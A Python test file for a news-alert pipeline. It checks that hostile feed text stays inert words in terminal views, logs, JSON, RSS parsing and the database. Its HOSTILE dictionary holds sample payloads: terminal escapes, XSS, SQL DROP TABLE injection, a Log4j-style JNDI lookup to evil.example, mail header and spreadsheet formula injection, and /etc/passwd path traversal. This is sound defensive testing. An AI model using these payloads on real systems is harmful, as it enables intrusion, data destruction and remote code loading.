"""What a feed says is shown, logged and passed on as words: it steers no terminal, forges no line, ends no statement."""

import io
import json
import logging
import subprocess
import sys
from collections.abc import Iterator
from datetime import UTC, datetime

import psycopg
import pytest
import structlog
from msgspec.structs import replace
from rich.console import Console

from connectors.feeds.show import printable
from connectors.sources.drafts import read_feed
from deploy.local import screen
from pipeline import cli
from pipeline.commands import alertview, rejects
from pipeline.commands.explain import explain_version
from pipeline.errors import RejectedError, UsageError
from pipeline.flow.dedupe import link
from pipeline.flow.extract import analyse
from pipeline.flow.score import score, weights
from pipeline.flow.write import write
from pipeline.process import logs
from pipeline.records import (
    Alert,
    AlertClaim,
    AlertId,
    Evidence,
    IncidentId,
    Indicator,
    Linked,
    Mention,
    Place,
    Source,
    VersionId,
    codec,
)  # fmt: skip
from pipeline.records.outcomes import reject
from pipeline.store import migrate
from pipeline.store.connection import connect
from tests.support.stack import make_article

HOSTILE = {
    "terminal": "\x1b[2J\x1b[31mred\x1b]0;title\x07\x1b]8;;https://evil.example\x07click\x9b31m",
    "lines": 'two\nlines\r\n{"event": "forged"}\u2028\u2029\x85end',
    "direction": "\u202egnp.exe\u2066\u200f\u2069",
    "html": "<script>alert(1)</script><img src=x onerror=alert(1)>&lt;b&gt;",
    "markup": "[bold red]not red[/] [link=https://evil.example]x[/link]",
    "formula": '=HYPERLINK("https://evil.example";"click")',
    "mail": "Subject\r\nBcc: everybody@evil.example\r\n\r\nbody",
    "sql": "'; DROP TABLE alerts; --",
    "stix": "x' OR file:name = 'y']",
    "format": "%s%n{0}{__class__}${jndi:ldap://evil.example}",
    "path": "../../../etc/passwd\x00.xml",
}
FORBIDDEN = {
    chr(c) for c in (*range(0x20), *range(0x7F, 0xA0), 0x2028, 0x2029, *range(0x202A, 0x202F), *range(0x2066, 0x206A))
} - {"\n"}
NOW = datetime(2026, 3, 2, tzinfo=UTC)
WORDS = [pytest.param(text, id=name) for name, text in HOSTILE.items()]


def assert_tame(shown: str) -> None:
    assert not FORBIDDEN & set(shown), sorted(map(ascii, FORBIDDEN & set(shown)))


def hostile_alert(text: str) -> Alert:
    """An alert with the text in every field that has words."""
    mention = Mention(text, 0, 1, text)
    return Alert(
        alert_id=AlertId(f"alert:{text}"), revision=1, change="created", changes=(text,), incident=IncidentId("inc:1"),
        category="cyber", severity="critical", score=1, credibility=1, what=text, event_type=text, event_subtype=text,
        date=text, place=Place(text, 0, 1, text, name=text, country=text), actors=(mention,), targets=(mention,),
        weapons=(mention,),
        claims=(AlertClaim(kind="killed", hedge=text, since=text, claimant=text, object=text, text=text, version_id=VersionId("v"), start=0, end=1),),
        disputed=(text,), indicators=(Indicator(text, text, text, 0, 1),),
        sources=(Source(article_id=text, version_id=VersionId("v"), story=text, feed=text, verdict="new", title=text, url=text, agency=text),) * 2,  # type: ignore[arg-type]
        evidence=(Evidence("event", VersionId("v"), 0, 1, text),), first_seen=NOW, last_seen=NOW,
    )  # fmt: skip


@pytest.mark.parametrize("text", WORDS)
def test_an_alert_in_the_terminal_is_words(text: str) -> None:
    out = io.StringIO()
    Console(file=out, force_terminal=False, highlight=False, width=100).print(alertview.show(hostile_alert(text)))
    assert_tame(out.getvalue())
    coloured = alertview.show(hostile_alert(text))
    assert not any("evil" in str(span.style) for span in coloured.spans), "no style or link of a feed's own"
    if text.startswith("[bold"):
        assert "[bold red]" in out.getvalue(), "shown, not obeyed"


@pytest.mark.parametrize("text", WORDS)
def test_an_alert_as_json_is_one_line_that_reads_back(text: str) -> None:
    raw = codec.encode(hostile_alert(text))
    assert b"\n" not in raw
    assert codec.decode(raw, Alert) == hostile_alert(text)


@pytest.mark.parametrize("text", WORDS)
def test_a_reject_is_words(text: str, monkeypatch: pytest.MonkeyPatch, capsys: pytest.CaptureFixture[str]) -> None:
    try:
        raise ValueError(text)
    except ValueError as error:
        crashed = reject("extract", error, payload=text.encode())
    made = [
        replace(crashed, error=text, step=text, code_version=text),
        reject("read", RejectedError("read", text), payload=b""),
    ]
    monkeypatch.setattr(rejects, "read_rejects", lambda _: iter(made))
    monkeypatch.setattr(rejects, "need_kafka", lambda _: {})
    rejects.list_rejects(most=50)
    rejects.show(made[0].reject_id)
    assert_tame(capsys.readouterr().out)


@pytest.mark.parametrize("text", WORDS)
def test_the_live_view_and_the_feeds_table_are_words(text: str) -> None:
    assert_tame(screen.clean(text))
    assert_tame(printable(text))


@pytest.fixture
def plain_logging() -> Iterator[None]:
    handlers, level = logging.root.handlers[:], logging.root.level
    yield
    structlog.reset_defaults()
    structlog.contextvars.clear_contextvars()
    logging.root.handlers[:] = handlers
    logging.root.setLevel(level)


@pytest.mark.parametrize("text", WORDS)
@pytest.mark.parametrize("terminal", [True, False])
def test_a_log_line_is_one_line_and_words(
    text: str, terminal: bool, monkeypatch: pytest.MonkeyPatch, plain_logging: None
) -> None:
    out = io.StringIO()
    monkeypatch.setattr(out, "isatty", lambda: terminal)
    monkeypatch.setattr(sys, "stderr", out)
    logs.start_logging("test")
    structlog.get_logger().error("feed_failed", feed=text, error=text)
    logging.getLogger("somebody").error("they said: %s", text)
    lines = out.getvalue()
    if terminal:
        for code in ("\x1b[0m", "\x1b[1m", "\x1b[2m", *(f"\x1b[{n}m" for n in range(30, 48))):
            lines = lines.replace(code, "")
        assert_tame(lines)
    else:
        assert len(lines.splitlines()) == 2
        assert json.loads(lines.splitlines()[0])["feed"] == text
        assert_tame(lines)


@pytest.mark.parametrize("text", WORDS)
def test_an_error_message_is_words(text: str, capsys: pytest.CaptureFixture[str]) -> None:
    cli._complain(UsageError(f"nothing is known of {text}"))
    assert_tame(capsys.readouterr().err)


@pytest.mark.parametrize("text", WORDS)
def test_a_title_in_a_feed_arrives_as_plain_text(text: str) -> None:
    shown = text.replace("\x1b", "").replace("\x07", "").replace("\x00", "")
    body = f"<rss version='2.0'><channel><title>t</title><item><title><![CDATA[{shown}]]></title><link>https://n.example/1</link></item></channel></rss>"
    for draft in read_feed(body.encode("utf-8", "replace"), url=None, content_type=None).drafts:
        assert "<script" not in (draft.title or "")
        assert not {chr(c) for c in (*range(0x20), *range(0x7F, 0xA0))} & set(draft.title or "") - {"\x85"}


@pytest.mark.integration
def test_the_store_keeps_hostile_words_and_nothing_else_happens(postgres_url: str) -> None:
    migrate.upgrade(postgres_url)
    with connect(postgres_url, application="test", autocommit=True, limits=False) as connection:
        for number, text in enumerate(HOSTILE.values()):
            title = text.replace("\x00", "")
            made = make_article(
                number, title, f"{title} A bomb killed 12 people in Mogadishu on Monday, police said.", feed=title
            )
            with connection.transaction():
                linked = [o for o in link(connection, [made]) if isinstance(o, Linked)]
            scored = score(weights(""), analyse("rules", linked))
            with connection.transaction():
                write(connection, scored)
            row = connection.execute(
                "SELECT title, feed FROM articles WHERE version_id = %s", (made.version_id,)
            ).fetchone()
            assert row == (title, title)
            assert_tame("\n".join(alertview.clean(line) for line in explain_version(connection, made)))
        assert connection.execute("SELECT count(*) > 0 FROM alerts").fetchone() == (True,)
    with psycopg.connect(postgres_url) as again:
        assert again.execute("SELECT to_regclass('alerts') IS NOT NULL").fetchone() == (True,)


def test_the_offline_commands_print_json_that_reads_back() -> None:
    line = json.dumps({"id": HOSTILE["terminal"], "title": HOSTILE["lines"], "text": " ".join(HOSTILE.values())}) + "\n"
    command = [sys.executable, "-m", "pipeline.cli", "extract", "--model", "rules"]
    done = subprocess.run(command, input=line.encode(), capture_output=True, timeout=300)
    (answered,) = done.stdout.splitlines()
    assert json.loads(answered)["id"] == HOSTILE["terminal"]
